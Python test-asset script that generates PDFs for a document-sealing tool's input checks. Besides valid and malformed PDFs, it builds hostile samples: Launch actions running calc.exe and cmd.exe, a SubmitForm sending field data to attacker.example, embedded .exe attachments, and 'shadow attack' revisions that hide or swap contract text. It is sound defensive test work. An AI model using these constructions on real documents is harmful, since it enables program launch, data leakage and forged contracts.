"""Test PDFs, generated (nothing binary is committed).

`valid_pdf()` builds a small document with pyHanko's writer (an English line in
Helvetica and a Chinese line "（盖章）" in an embedded subset of a CJK font).
`malformed_corpus()` derives broken documents from it for the input checks.

Run `python tests/assets/make_pdfs.py OUTDIR` to write them all to OUTDIR.
"""

from __future__ import annotations

import functools
import io
import random
import sys
import tempfile
from collections.abc import Callable
from pathlib import Path

from fontTools import subset
from fontTools.ttLib import TTFont
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.font.opentype import GlyphAccumulatorFactory
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.text import TextBox, TextBoxStyle
from pyhanko.pdf_utils.writer import PageObject, PdfFileWriter

A4 = (0, 0, 595.28, 841.89)
CJK_TTC = Path("/usr/share/fonts/truetype/wqy/wqy-zenhei.ttc")
CHINESE_LINE = "（盖章）华夏示例科技有限公司"


@functools.lru_cache(maxsize=1)
def _cjk_subset_font() -> str:
    """A small TrueType file with just the glyphs we print (pyHanko can't open a .ttc face)."""
    if not CJK_TTC.is_file():
        raise RuntimeError(f"{CJK_TTC} missing: install the Debian package fonts-wqy-zenhei")
    font = TTFont(str(CJK_TTC), fontNumber=0)
    subsetter = subset.Subsetter(subset.Options())
    subsetter.populate(text=CHINESE_LINE)
    subsetter.subset(font)
    out = Path(tempfile.mkdtemp(prefix="seal-test-font-")) / "cjk-subset.ttf"
    font.save(str(out))
    return str(out)


def valid_pdf(
    pages: int = 1,
    *,
    media_box: tuple[float, float, float, float] = A4,
    rotate: int = 0,
    chinese: bool = True,
    edit: Callable[[PdfFileWriter], None] | None = None,
    object_streams: bool = False,
) -> bytes:
    """A clean one-revision document; `edit` adds to it before it is written (issue 14:
    the active-content corpus), `object_streams` writes an xref stream so objects can be
    put into compressed object streams."""
    writer = PdfFileWriter(stream_xrefs=object_streams)
    helv = generic.DictionaryObject(
        {
            generic.pdf_name("/Type"): generic.pdf_name("/Font"),
            generic.pdf_name("/Subtype"): generic.pdf_name("/Type1"),
            generic.pdf_name("/BaseFont"): generic.pdf_name("/Helvetica"),
        }
    )
    helv_ref = writer.add_object(helv)
    x0, y0 = media_box[0], media_box[1]
    for number in range(1, pages + 1):
        fonts = generic.DictionaryObject({generic.pdf_name("/Helv"): helv_ref})
        resources = generic.DictionaryObject({generic.pdf_name("/Font"): fonts})
        ops = b"BT /Helv 14 Tf %g %g Td (Contract page %d of %d) Tj ET\n" % (
            x0 + 72,
            y0 + 760,
            number,
            pages,
        )
        if chinese:
            box = TextBox(
                TextBoxStyle(
                    font=GlyphAccumulatorFactory(_cjk_subset_font()), font_size=14, border_width=0
                ),
                writer=writer,
            )
            box.content = CHINESE_LINE
            rendered = box.render()
            ops += b"q 1 0 0 1 %g %g cm %s Q\n" % (x0 + 72, y0 + 700, rendered)
            resources[generic.pdf_name("/Font")].update(box.resources.font)
        stream = generic.StreamObject(stream_data=ops)
        page = PageObject(
            contents=writer.add_object(stream),
            media_box=generic.ArrayObject(map(generic.FloatObject, media_box)),
            resources=resources,
        )
        if rotate:
            page[generic.pdf_name("/Rotate")] = generic.NumberObject(rotate)
        writer.insert_page(page)
    if edit is not None:
        edit(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def encrypted_pdf() -> bytes:
    """A one-page PDF protected with a user password (pyHanko's standard security handler)."""
    writer = PdfFileWriter()
    stream = generic.StreamObject(stream_data=b"BT /F1 12 Tf 72 720 Td (secret) Tj ET")
    writer.insert_page(
        PageObject(
            contents=writer.add_object(stream),
            media_box=generic.ArrayObject(map(generic.NumberObject, (0, 0, 595, 842))),
        )
    )
    writer.encrypt("owner-secret", "user-secret")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def javascript_pdf() -> bytes:
    """A valid one-revision PDF with a JavaScript /OpenAction."""

    def edit(writer: PdfFileWriter) -> None:
        action = _action("/JavaScript", JS=generic.TextStringObject("app.alert('hi');"))
        writer.root[generic.pdf_name("/OpenAction")] = writer.add_object(action)

    return valid_pdf(chinese=False, edit=edit)


# -- issue 14: active content, each case named after the attack it reproduces ---------


def _name(value: str) -> generic.NameObject:
    return generic.pdf_name(value)


def _action(kind: str, **entries: generic.PdfObject) -> generic.DictionaryObject:
    action = generic.DictionaryObject({_name("/Type"): _name("/Action"), _name("/S"): _name(kind)})
    for key, value in entries.items():
        action[_name("/" + key)] = value
    return action


def _text(value: str) -> generic.TextStringObject:
    return generic.TextStringObject(value)


def _filespec(name: str) -> generic.DictionaryObject:
    return generic.DictionaryObject({_name("/Type"): _name("/Filespec"), _name("/F"): _text(name)})


def _first_page(writer: PdfFileWriter) -> generic.DictionaryObject:
    page = writer.root["/Pages"]["/Kids"][0].get_object()
    assert isinstance(page, generic.DictionaryObject)
    return page


def _annotate(writer: PdfFileWriter, annot: generic.DictionaryObject) -> generic.IndirectObject:
    annot[_name("/Type")] = _name("/Annot")
    annot[_name("/Rect")] = generic.ArrayObject(map(generic.NumberObject, (72, 600, 272, 640)))
    ref = writer.add_object(annot)
    _first_page(writer)[_name("/Annots")] = generic.ArrayObject([ref])
    return ref


def _open_action(kind: str, **entries: generic.PdfObject) -> Callable[[PdfFileWriter], None]:
    def edit(writer: PdfFileWriter) -> None:
        writer.root[_name("/OpenAction")] = writer.add_object(_action(kind, **entries))

    return edit


def _link(kind: str, **entries: generic.PdfObject) -> Callable[[PdfFileWriter], None]:
    def edit(writer: PdfFileWriter) -> None:
        link = generic.DictionaryObject({_name("/Subtype"): _name("/Link")})
        link[_name("/A")] = writer.add_object(_action(kind, **entries))
        _annotate(writer, link)

    return edit


def _page_aa(trigger: str, kind: str, **entries: generic.PdfObject) -> Callable[[PdfFileWriter], None]:
    def edit(writer: PdfFileWriter) -> None:
        aa = generic.DictionaryObject({_name(trigger): writer.add_object(_action(kind, **entries))})
        _first_page(writer)[_name("/AA")] = aa

    return edit


def _annotation_aa(trigger: str, kind: str, **entries: generic.PdfObject) -> Callable[[PdfFileWriter], None]:
    def edit(writer: PdfFileWriter) -> None:
        aa = generic.DictionaryObject({_name(trigger): writer.add_object(_action(kind, **entries))})
        _annotate(writer, generic.DictionaryObject({_name("/Subtype"): _name("/Link"), _name("/AA"): aa}))

    return edit


def _catalog_aa(writer: PdfFileWriter) -> None:
    action = writer.add_object(_action("/Launch", F=_filespec("cmd.exe")))
    writer.root[_name("/AA")] = generic.DictionaryObject({_name("/WC"): action})


def _next_chain(writer: PdfFileWriter) -> None:
    launch = writer.add_object(_action("/Launch", F=_filespec("calc.exe")))
    first = _action("/Named", N=_name("/NextPage"), Next=launch)
    writer.root[_name("/OpenAction")] = writer.add_object(first)


def _richmedia(writer: PdfFileWriter) -> None:
    _annotate(writer, generic.DictionaryObject({_name("/Subtype"): _name("/RichMedia")}))


def _xfa(writer: PdfFileWriter) -> None:
    xdp = b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>"
    xfa = writer.add_object(generic.StreamObject(stream_data=xdp))
    writer.root[_name("/AcroForm")] = generic.DictionaryObject(
        {_name("/Fields"): generic.ArrayObject(), _name("/XFA"): xfa}
    )


def _embedded_files(writer: PdfFileWriter) -> None:
    embedded = writer.add_object(generic.StreamObject(stream_data=b"MZ not really a program"))
    spec = _filespec("invoice.exe")
    spec[_name("/EF")] = generic.DictionaryObject({_name("/F"): embedded})
    tree = generic.DictionaryObject(
        {_name("/Names"): generic.ArrayObject([_text("invoice.exe"), writer.add_object(spec)])}
    )
    names = generic.DictionaryObject({_name("/EmbeddedFiles"): writer.add_object(tree)})
    writer.root[_name("/Names")] = names


def _file_attachment(writer: PdfFileWriter) -> None:
    embedded = writer.add_object(generic.StreamObject(stream_data=b"MZ not really a program"))
    spec = _filespec("readme.exe")
    spec[_name("/EF")] = generic.DictionaryObject({_name("/F"): embedded})
    _annotate(
        writer,
        generic.DictionaryObject({_name("/Subtype"): _name("/FileAttachment"), _name("/FS"): spec}),
    )


def _field_aa(writer: PdfFileWriter) -> None:
    submit = writer.add_object(_action("/SubmitForm", F=_filespec("https://attacker.example/collect")))
    field = generic.DictionaryObject(
        {
            _name("/FT"): _name("/Tx"),
            _name("/T"): _text("amount"),
            _name("/AA"): generic.DictionaryObject({_name("/K"): submit}),
        }
    )
    writer.root[_name("/AcroForm")] = generic.DictionaryObject(
        {_name("/Fields"): generic.ArrayObject([writer.add_object(field)])}
    )


def _outline(writer: PdfFileWriter) -> None:
    outlines = generic.DictionaryObject({_name("/Type"): _name("/Outlines")})
    outlines_ref = writer.add_object(outlines)
    item = generic.DictionaryObject(
        {
            _name("/Title"): _text("Terms"),
            _name("/Parent"): outlines_ref,
            _name("/A"): writer.add_object(_action("/Launch", F=_filespec("calc.exe"))),
        }
    )
    item_ref = writer.add_object(item)
    outlines[_name("/First")] = item_ref
    outlines[_name("/Last")] = item_ref
    writer.root[_name("/Outlines")] = outlines_ref


def _in_object_stream(writer: PdfFileWriter) -> None:
    """The Launch action inside a compressed (Flate) object stream: invisible to a scan of
    the file's bytes, seen by the structural walk."""
    stream = writer.prepare_object_stream(compress=True)
    action = writer.add_object(_action("/Launch", F=_filespec("calc.exe")), obj_stream=stream)
    writer.root[_name("/OpenAction")] = action


def _unreachable(writer: PdfFileWriter) -> None:
    """A Launch action no walked path leads to: only the byte scan finds it."""
    writer.add_object(_action("/Launch", F=_filespec("calc.exe")))


# name -> (document, what the refusal must name besides the object number)
def active_content_corpus() -> dict[str, tuple[bytes, str]]:
    calc, attacker = _filespec("calc.exe"), generic.TextStringObject("https://attacker.example/")
    to_page_one = generic.ArrayObject([generic.NumberObject(0), _name("/Fit")])
    cases: dict[str, tuple[Callable[[PdfFileWriter], None], str, bool]] = {
        "launch-open-action": (_open_action("/Launch", F=calc), "/OpenAction /Launch", False),
        "launch-catalog-aa": (_catalog_aa, "/AA /WC /Launch", False),
        "launch-next-chain": (_next_chain, "/OpenAction /Next /Launch", False),
        "launch-outline": (_outline, "/Outlines /A /Launch", False),
        "launch-in-object-stream": (_in_object_stream, "/OpenAction /Launch", True),
        "launch-unreachable-object": (_unreachable, ": /Launch", False),
        "submitform-link": (_link("/SubmitForm", F=_filespec("https://x.example/")), "/A /SubmitForm", False),
        "submitform-field-aa": (_field_aa, "/AcroForm field /AA /K /SubmitForm", False),
        "importdata-page-aa": (_page_aa("/O", "/ImportData", F=_filespec("d")), "/AA /O /ImportData", False),
        "gotor-link": (_link("/GoToR", F=_filespec("other.pdf"), D=to_page_one), "/Annots /A /GoToR", False),
        "gotoe-open-action": (_open_action("/GoToE", F=_filespec("other.pdf")), "/OpenAction /GoToE", False),
        "uri-open-action": (_open_action("/URI", URI=attacker), "/OpenAction /URI", False),
        "uri-annotation-aa": (_annotation_aa("/E", "/URI", URI=attacker), "/Annots /AA /E /URI", False),
        "richmedia-annotation": (_richmedia, "/Annots /RichMedia", False),
        "xfa-form": (_xfa, "/AcroForm /XFA", False),
        "embedded-files-name-tree": (_embedded_files, "/Names /EmbeddedFiles", False),
        "file-attachment-annotation": (_file_attachment, "/Annots /FileAttachment", False),
    }
    return {
        name: (valid_pdf(chinese=False, edit=edit, object_streams=objstm), named)
        for name, (edit, named, objstm) in cases.items()
    }


def uri_link_pdf() -> bytes:
    """An ordinary hyperlink (a /URI action the reader clicks): not active content."""
    return valid_pdf(chinese=False, edit=_link("/URI", URI=generic.TextStringObject("https://example.com/")))


# -- issue 14: the shadow-attack family (Mainka et al., 2021), as unsigned updates -------


def _incremental(base: bytes, change: Callable[[IncrementalPdfFileWriter], None]) -> bytes:
    writer = IncrementalPdfFileWriter(io.BytesIO(base))
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    assert out.getvalue().startswith(base)  # an incremental update: the first revision stays
    return out.getvalue()


def _page_of(writer: IncrementalPdfFileWriter) -> tuple[generic.DictionaryObject, generic.Reference]:
    page_ref = writer.root["/Pages"]["/Kids"].raw_get(0)
    page = page_ref.get_object()
    return page, page_ref.reference


def shadow_hide_pdf() -> bytes:
    """Hide: a later revision lays a white box over the text the first one shows."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        page, page_ref = _page_of(writer)
        cover = writer.add_object(generic.StreamObject(stream_data=b"q 1 g 60 740 400 60 re f Q\n"))
        contents = page.raw_get("/Contents")
        page[_name("/Contents")] = generic.ArrayObject([contents, cover])
        writer.mark_update(page_ref)

    return _incremental(valid_pdf(chinese=False), change)


def shadow_replace_pdf() -> bytes:
    """Replace: a later revision swaps the page's text for other text."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        page, page_ref = _page_of(writer)
        other = b"BT /Helv 14 Tf 72 760 Td (Contract amount: 1,000,000 CNY) Tj ET\n"
        page[_name("/Contents")] = writer.add_object(generic.StreamObject(stream_data=other))
        writer.mark_update(page_ref)

    return _incremental(valid_pdf(chinese=False), change)


def shadow_hide_and_replace_pdf() -> bytes:
    """Hide-and-replace: the first revision already carries the other text in an object no
    page uses; the later revision only points the page at it."""

    hidden_ref: list[generic.IndirectObject] = []

    def plant(writer: PdfFileWriter) -> None:
        other = b"BT /Helv 14 Tf 72 760 Td (Contract amount: 1,000,000 CNY) Tj ET\n"
        hidden_ref.append(writer.add_object(generic.StreamObject(stream_data=other)))

    base = valid_pdf(chinese=False, edit=plant)

    def change(writer: IncrementalPdfFileWriter) -> None:
        page, page_ref = _page_of(writer)
        page[_name("/Contents")] = generic.IndirectObject(hidden_ref[0].idnum, 0, writer)
        writer.mark_update(page_ref)

    return _incremental(base, change)


def shadow_corpus() -> dict[str, bytes]:
    return {
        "shadow-hide": shadow_hide_pdf(),
        "shadow-replace": shadow_replace_pdf(),
        "shadow-hide-and-replace": shadow_hide_and_replace_pdf(),
    }


def zero_pages_pdf() -> bytes:
    """A syntactically fine PDF whose page tree is empty."""
    body = [
        b"%PDF-1.7\n",
        b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n",
        b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n",
    ]
    return _with_xref(body, root=1)


def _with_xref(objects: list[bytes], root: int) -> bytes:
    out = bytearray(objects[0])
    offsets = []
    for obj in objects[1:]:
        offsets.append(len(out))
        out += obj
    xref_at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(offsets) + 1)
    for off in offsets:
        out += b"%010d 00000 n \n" % off
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(offsets) + 1,
        root,
        xref_at,
    )
    return bytes(out)


def broken_xref_pdf() -> bytes:
    """Valid bytes, but every xref offset points 7 bytes off."""
    data = valid_pdf(chinese=False)
    start = data.rindex(b"\nxref\n") + 1
    table_end = data.index(b"trailer", start)
    table = data[start:table_end]
    lines = table.split(b"\n")
    fixed = [lines[0], lines[1]]
    for line in lines[2:]:
        if len(line) >= 18 and line.endswith(b" n "):
            fixed.append(b"%010d" % (int(line[:10]) + 7) + line[10:])
        else:
            fixed.append(line)
    return data[:start] + b"\n".join(fixed) + data[table_end:]


def bad_startxref_pdf() -> bytes:
    data = valid_pdf(chinese=False)
    at = data.rindex(b"startxref\n") + len(b"startxref\n")
    end = data.index(b"\n", at)
    return data[:at] + b"999999" + data[end:]


def truncated_pdfs(data: bytes) -> dict[str, bytes]:
    cuts = (len(data) // 10, len(data) // 2, len(data) - 40, len(data) - 7)
    return {f"truncated_at_{cut}": data[:cut] for cut in cuts}


def mutated_pdfs(data: bytes, count: int = 40, seed: int = 1234) -> dict[str, bytes]:
    """Random byte flips, deletions and garbage insertions in structural regions.

    Not every mutation breaks a PDF (a flipped byte inside a text string is still a
    valid document), so tests use these for "never anything but InputDocumentError".
    """
    rng = random.Random(seed)
    out: dict[str, bytes] = {}
    for i in range(count):
        buf = bytearray(data)
        for _ in range(rng.randint(1, 8)):
            pos = rng.randrange(len(buf))
            op = rng.choice(("flip", "delete", "insert"))
            if op == "flip":
                buf[pos] = rng.randrange(256)
            elif op == "delete":
                del buf[pos : pos + rng.randint(1, 40)]
            else:
                buf[pos:pos] = rng.randbytes(rng.randint(1, 40))
        out[f"mutation_{i:02d}"] = bytes(buf)
    return out


def malformed_corpus() -> dict[str, bytes]:
    """Name -> bytes of a document that check_input_pdf must refuse (expected reason first)."""
    good = valid_pdf(chinese=False)
    corpus = {
        "not_pdf__png": b"\x89PNG\r\n\x1a\n" + b"\0" * 100,
        "not_pdf__text": "合同正文，不是PDF。\n".encode() * 10,
        "not_pdf__html": b"<html><body>%PDF-1.7 in text</body></html>" + b" " * 1100 + b"%%EOF",
        "empty__file": b"",
        "encrypted__rc4_aes": encrypted_pdf(),
        "broken_xref__offsets": broken_xref_pdf(),
        "broken_xref__startxref": bad_startxref_pdf(),
        "javascript__open_action": javascript_pdf(),
        "zero_pages__empty_tree": zero_pages_pdf(),
        "truncated__no_eof": good.replace(b"%%EOF", b"%%EOX"),
    }
    for name, blob in truncated_pdfs(good).items():
        corpus[f"truncated__{name}"] = blob
    return corpus


def expected_reason(corpus_name: str) -> str:
    return corpus_name.split("__", 1)[0]


def main(argv: list[str]) -> int:
    if len(argv) != 2:
        print("usage: make_pdfs.py OUTDIR", file=sys.stderr)
        return 2
    outdir = Path(argv[1])
    outdir.mkdir(parents=True, exist_ok=True)
    (outdir / "valid.pdf").write_bytes(valid_pdf())
    (outdir / "valid-3-pages.pdf").write_bytes(valid_pdf(3))
    (outdir / "valid-rotated-90.pdf").write_bytes(valid_pdf(rotate=90))
    for name, blob in {**malformed_corpus(), **mutated_pdfs(valid_pdf(chinese=False))}.items():
        (outdir / f"{name}.pdf").write_bytes(blob)
    for name, (blob, _) in active_content_corpus().items():
        (outdir / f"{name}.pdf").write_bytes(blob)
    for name, blob in shadow_corpus().items():
        (outdir / f"{name}.pdf").write_bytes(blob)
    (outdir / "uri-link.pdf").write_bytes(uri_link_pdf())
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv))
